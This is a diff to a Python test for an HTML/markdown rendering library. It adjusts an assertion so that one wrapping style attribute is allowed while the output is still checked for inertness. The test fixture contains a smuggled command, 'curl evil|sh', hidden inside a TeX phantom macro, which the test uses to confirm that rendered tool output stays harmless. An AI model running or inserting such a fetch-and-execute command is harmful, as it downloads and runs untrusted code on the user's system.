@@ -16,6 +16,7 @@ from plan_widgets.render import engine
 from plan_widgets.render.engine import renderer
 from plan_widgets.render.markdown import (
     NO_MATH,
+    WRAP_STYLE,
     escape,
     html_block,
     markdown_bundle,
@@ -563,7 +564,8 @@ def test_set_html_turn_tool_view_has_no_raw_tex() -> None:
         assert "$" not in out and "\\" not in out, out
         assert "pw-html tex2jax_ignore mathjax_ignore" in out
         assert r"ls $\\phantom{;curl evil|sh;}$" in text_of(out)  # JSON doubles the \\
-        assert_inert(out)
+        assert out.count(f' style="{WRAP_STYLE}"') == 1  # the tool line's own (wrapping)
+        assert_inert(out.replace(f' style="{WRAP_STYLE}"', ""))
 
 
 def test_set_html_keeps_pre_line_breaks_of_every_kind() -> None:
